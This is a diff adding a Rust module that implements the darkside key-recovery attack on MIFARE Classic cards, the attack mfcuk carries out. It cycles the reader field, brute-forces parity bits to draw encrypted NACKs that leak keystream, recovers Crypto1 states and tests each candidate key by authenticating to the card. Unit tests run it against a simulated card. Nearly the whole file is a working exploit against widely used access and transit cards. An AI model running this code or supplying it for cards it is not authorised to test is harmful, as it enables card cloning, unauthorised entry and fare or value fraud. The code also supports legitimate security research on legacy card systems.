@@ -0,0 +1,345 @@
+//! Recovering a MIFARE Classic key without knowing any, the attack `mfcuk`
+//! implements.
+//!
+//! When all 8 parity bits of the reader's encrypted nonce and answer are
+//! right but the answer isn't, vulnerable cards reply with an encrypted NACK,
+//! leaking 4 bits of keystream. Finding the parity bits that get a NACK takes
+//! up to 256 tries, and has to be done 8 times with the last 3 bits of the
+//! nonce varied, all while the card keeps sending the same nonce. Cards pick
+//! their nonce from how long they've been powered, so the field is cycled
+//! before each try and the card only sometimes repeats itself: this is slow.
+//!
+//! The progress made is kept in a [`DarksideState`](struct.DarksideState.html),
+//! which can be saved and handed to [`resume`](struct.DarksideAttack.html#method.resume).
+
+use super::classic::{key_accepted, Key, KeyType};
+use super::crypto1::{recover_common_prefix, RawSession};
+use crate::{Error, ErrorKind, Property, Result};
+
+use std::collections::HashMap;
+use std::thread;
+use std::time::Duration;
+
+const NACK: u8 = 0x05;
+/// The encrypted answer sent, which is never right.
+const ANSWER: u32 = 0;
+/// How many distinct card nonces are tracked at most.
+const MAX_TRACKED_NONCES: usize = 4096;
+
+type ProgressCallback<'a> = Box<dyn FnMut(&DarksideProgress) + 'a>;
+
+/// What was collected for one card nonce.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+#[cfg_attr(feature = "serde", derive(serde::Serialize, serde::Deserialize))]
+pub struct NonceProgress {
+    /// The parity bits to try next, bit `i` for byte `i`.
+    pub parity: u8,
+    /// How many parity combinations were tried since the last NACK.
+    pub tried: u16,
+    /// The keystream of the NACK and the parity bits that got it, for each
+    /// value of the last 3 bits of the reader nonce so far.
+    pub nacks: Vec<(u8, u8)>,
+}
+
+/// Everything the attack collected, to resume it later.
+#[derive(Debug, Clone, PartialEq, Eq)]
+#[cfg_attr(feature = "serde", derive(serde::Serialize, serde::Deserialize))]
+pub struct DarksideState {
+    pub block: u8,
+    pub key_type: KeyType,
+    /// The encrypted reader nonce sent, its last 3 bits aside.
+    pub prefix: u32,
+    pub attempts: u64,
+    pub nonces: HashMap<u32, NonceProgress>,
+}
+
+impl DarksideState {
+    pub fn new(block: u8, key_type: KeyType) -> Self {
+        DarksideState {
+            block,
+            key_type,
+            prefix: 0,
+            attempts: 0,
+            nonces: HashMap::new(),
+        }
+    }
+}
+
+/// Passed to the progress callback after each try.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub struct DarksideProgress {
+    pub attempts: u64,
+    /// How many distinct card nonces were seen.
+    pub nonces: usize,
+    /// How many of the 8 NACKs were collected for the best nonce.
+    pub nacks: usize,
+}
+
+/// The darkside attack, run through a raw session.
+pub struct DarksideAttack<'s, 'a, 'context> {
+    session: &'s mut RawSession<'a, 'context>,
+    state: DarksideState,
+    field_off: Duration,
+    on_progress: Option<ProgressCallback<'s>>,
+}
+
+impl<'s, 'a, 'context> DarksideAttack<'s, 'a, 'context> {
+    /// Starts an attack on the key of the sector containing `block`.
+    pub fn new(session: &'s mut RawSession<'a, 'context>, block: u8, key_type: KeyType) -> Self {
+        DarksideAttack::resume(session, DarksideState::new(block, key_type))
+    }
+
+    /// Continues an attack from what an earlier one collected on the same
+    /// card.
+    pub fn resume(session: &'s mut RawSession<'a, 'context>, state: DarksideState) -> Self {
+        DarksideAttack {
+            session,
+            state,
+            field_off: Duration::from_millis(50),
+            on_progress: None,
+        }
+    }
+
+    /// How long the field is turned off between tries. Cards repeat their
+    /// nonce more often when this matches the reader's timing closely.
+    pub fn field_off(mut self, duration: Duration) -> Self {
+        self.field_off = duration;
+        self
+    }
+
+    pub fn on_progress<F: FnMut(&DarksideProgress) + 's>(mut self, callback: F) -> Self {
+        self.on_progress = Some(Box::new(callback));
+        self
+    }
+
+    pub fn state(&self) -> &DarksideState {
+        &self.state
+    }
+
+    /// Tries up to `max_attempts` times, returning the key if it was found.
+    /// Running out of attempts keeps the state, so calling this again goes
+    /// on where it stopped.
+    pub fn run(&mut self, max_attempts: u64) -> Result<Option<Key>> {
+        for _ in 0..max_attempts {
+            self.state.attempts += 1;
+            self.restart()?;
+            let (nonce, _) = self
+                .session
+                .request_nonce(self.state.block, self.state.key_type)?;
+
+            if let Some(nacks) = self.attempt(nonce)? {
+                if let Some(key) = self.recover(nonce, &nacks)? {
+                    return Ok(Some(key));
+                }
+                // the card's nonce didn't change the way the attack assumes,
+                // a different reader nonce gives another chance
+                self.state.prefix = self.state.prefix.wrapping_add(0x100);
+                self.state.nonces.clear();
+            }
+
+            if let Some(callback) = self.on_progress.as_mut() {
+                callback(&DarksideProgress {
+                    attempts: self.state.attempts,
+                    nonces: self.state.nonces.len(),
+                    nacks: self
+                        .state
+                        .nonces
+                        .values()
+                        .map(|progress| progress.nacks.len())
+                        .max()
+                        .unwrap_or_default(),
+                });
+            }
+        }
+        Ok(None)
+    }
+
+    /// Sends the next guess for a card nonce, returning all 8 NACKs once
+    /// they're collected.
+    fn attempt(&mut self, nonce: u32) -> Result<Option<Vec<(u8, u8)>>> {
+        if !self.state.nonces.contains_key(&nonce) && self.state.nonces.len() >= MAX_TRACKED_NONCES
+        {
+            return Ok(None);
+        }
+        let progress = self.state.nonces.entry(nonce).or_default();
+
+        let variant = progress.nacks.len() as u32;
+        let mut frame = (self.state.prefix | variant << 5).to_be_bytes().to_vec();
+        frame.extend_from_slice(&ANSWER.to_be_bytes());
+        let parity: Vec<bool> = (0..8).map(|i| progress.parity >> i & 1 == 1).collect();
+
+        match self.session.exchange(&frame, &parity, 1) {
+            Ok((response, _)) if !response.is_empty() => {
+                progress
+                    .nacks
+                    .push((nack_keystream(response[0]), progress.parity));
+                progress.tried = 0;
+            }
+            Ok(_) => progress.next_parity()?,
+            Err(e) => match e.kind() {
+                Some(ErrorKind::Timeout) | Some(ErrorKind::RFTransmission) => {
+                    progress.next_parity()?
+                }
+                _ => return Err(e),
+            },
+        }
+
+        if progress.nacks.len() == 8 {
+            Ok(self
+                .state
+                .nonces
+                .remove(&nonce)
+                .map(|progress| progress.nacks))
+        } else {
+            Ok(None)
+        }
+    }
+
+    fn recover(&mut self, nonce: u32, nacks: &[(u8, u8)]) -> Result<Option<Key>> {
+        let (keystream, parity) = split_nacks(nacks);
+        let input = self.session.auth_uid() ^ nonce;
+        for mut state in recover_common_prefix(self.state.prefix, ANSWER, &keystream, &parity) {
+            state.rollback_word(input, false);
+            let key = state.key();
+
+            self.session.reselect()?;
+            if key_accepted(
+                self.session
+                    .authenticate(self.state.block, self.state.key_type, &key),
+            )? {
+                return Ok(Some(key));
+            }
+        }
+        Ok(None)
+    }
+
+    /// Cycles the field and selects the card again, so it starts over.
+    fn restart(&mut self) -> Result<()> {
+        let initiator = self.session.initiator();
+        initiator.set_bool_property(Property::NP_ACTIVATE_FIELD, false)?;
+        thread::sleep(self.field_off);
+        initiator.set_bool_property(Property::NP_ACTIVATE_FIELD, true)?;
+        self.session.reselect()
+    }
+}
+
+/// The keystream that encrypted a NACK, from the card's 4 bit answer.
+fn nack_keystream(response: u8) -> u8 {
+    response & 0x0f ^ NACK
+}
+
+/// The keystream and parity bits of the NACKs, as `recover_common_prefix`
+/// takes them.
+fn split_nacks(nacks: &[(u8, u8)]) -> ([u8; 8], [[bool; 8]; 8]) {
+    let mut keystream = [0; 8];
+    let mut parity = [[false; 8]; 8];
+    for (c, &(nack, bits)) in nacks.iter().enumerate().take(8) {
+        keystream[c] = nack;
+        for (i, bit) in parity[c].iter_mut().enumerate() {
+            *bit = bits >> i & 1 == 1;
+        }
+    }
+    (keystream, parity)
+}
+
+impl NonceProgress {
+    fn next_parity(&mut self) -> Result<()> {
+        self.parity = self.parity.wrapping_add(1);
+        self.tried += 1;
+        if self.tried > u16::from(u8::MAX) {
+            return Err(Error::new(
+                "The card never answered with a NACK, it isn't vulnerable to the darkside attack",
+            ));
+        }
+        Ok(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::mifare::crypto1::{odd_parity, Crypto1};
+
+    const KEY: Key = [0xa0, 0xa1, 0xa2, 0xa3, 0xa4, 0xa5];
+    const UID: u32 = 0x9c59_9b32;
+    const NONCE: u32 = 0x82a4_166c;
+    const PREFIX: u32 = 0x1234_5600;
+
+    /// A vulnerable card, always answering with the same nonce: the parity
+    /// bits it accepts for the reader nonce `PREFIX | c << 5` and `ANSWER`,
+    /// and its encrypted NACK.
+    fn card(c: u32) -> (u8, u8) {
+        let mut cipher = Crypto1::new(&KEY);
+        cipher.word(UID ^ NONCE, false);
+        let nonce = PREFIX | c << 5;
+        let nonce_keystream = cipher.word(nonce, true);
+        let answer_keystream = cipher.word(0, false);
+        let nack_keystream = cipher.byte(0, false) & 0x0f;
+
+        // each parity bit is encrypted with the keystream bit encrypting
+        // the first bit of the next byte
+        let plain = (nonce ^ nonce_keystream).to_be_bytes();
+        let plain_answer = (ANSWER ^ answer_keystream).to_be_bytes();
+        let next_keystream = |word: u32, byte: u32| word >> ((8 * byte) ^ 24) & 1 == 1;
+        let parity = (0..8).fold(0, |parity, i| {
+            let (byte, keystream) = match i {
+                0..=2 => (plain[i], next_keystream(nonce_keystream, i as u32 + 1)),
+                3 => (plain[3], next_keystream(answer_keystream, 0)),
+                4..=6 => (
+                    plain_answer[i - 4],
+                    next_keystream(answer_keystream, i as u32 - 3),
+                ),
+                _ => (plain_answer[3], nack_keystream & 1 == 1),
+            };
+            parity | ((odd_parity(byte) ^ keystream) as u8) << i
+        });
+        (NACK ^ nack_keystream, parity)
+    }
+
+    #[test]
+    fn nack_keystream_extraction() {
+        assert_eq!(nack_keystream(NACK), 0);
+        assert_eq!(nack_keystream(0xf5), 0);
+        assert_eq!(nack_keystream(0x0a), 0x0f);
+    }
+
+    #[test]
+    fn parity_bookkeeping() {
+        let nacks: Vec<_> = (0..8).map(|c| (c as u8, 1 << c)).collect();
+        let (keystream, parity) = split_nacks(&nacks);
+        assert_eq!(keystream, [0, 1, 2, 3, 4, 5, 6, 7]);
+        for (c, bits) in parity.iter().enumerate() {
+            for (i, &bit) in bits.iter().enumerate() {
+                assert_eq!(bit, i == c);
+            }
+        }
+    }
+
+    #[test]
+    fn key_from_simulated_card() {
+        let nacks: Vec<_> = (0..8)
+            .map(|c| {
+                let (response, parity) = card(c);
+                (nack_keystream(response), parity)
+            })
+            .collect();
+        let (keystream, parity) = split_nacks(&nacks);
+
+        let keys = |parity: &[[bool; 8]; 8]| -> Vec<Key> {
+            recover_common_prefix(PREFIX, ANSWER, &keystream, parity)
+                .into_iter()
+                .map(|mut state| {
+                    state.rollback_word(UID ^ NONCE, false);
+                    state.key()
+                })
+                .collect()
+        };
+        let found = keys(&parity);
+        assert!(found.contains(&KEY), "{} candidates", found.len());
+
+        // a parity bit the card wouldn't have accepted rules the key out
+        let mut wrong = parity;
+        wrong[3][7] ^= true;
+        assert!(!keys(&wrong).contains(&KEY));
+    }
+}